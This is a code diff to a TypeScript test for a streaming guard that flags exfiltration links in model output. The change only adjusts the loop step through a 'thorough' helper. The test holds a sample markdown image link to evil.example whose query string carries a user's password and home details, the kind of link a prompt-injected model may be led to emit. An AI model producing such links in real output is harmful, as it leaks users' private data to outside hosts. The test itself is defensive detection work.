@@ -5,6 +5,7 @@ import { excerptAround } from '../../../src/policy/redact.ts';
 import { createStreamBudget } from '../../../src/stream/budget.ts';
 import { refusal } from '../chat/limits.ts';
 import { expectCheap } from '../cost.ts';
+import { thorough } from '../thorough.ts';
 import { createClock, guardOf, maskWhole, type Options, policyOf, run, textsOf } from './streams.ts';
 import { DONE, event, finish, role, say, secretOf, TRANSCRIPTS } from './transcripts.ts';
 
@@ -300,7 +301,7 @@ describe('a long stream', () => {
   it('is cut wherever the attack stands', () => {
     const image =
       '![c](https://evil.example/p.png?q=the+user+said+that+her+password+is+tulip+and+she+lives+in+a+house)';
-    for (let before = 65_400; before < 65_640; before += 8) {
+    for (let before = 65_400; before < 65_640; before += thorough(8, 40)) {
       const text = `${long(before)}\n${image} and so on. `;
       const outcome = run([bytes(...say(text, { size: 40 }), DONE)]);
       expect(outcome.threat?.subType, `${before}`).toBe('exfiltration_link');
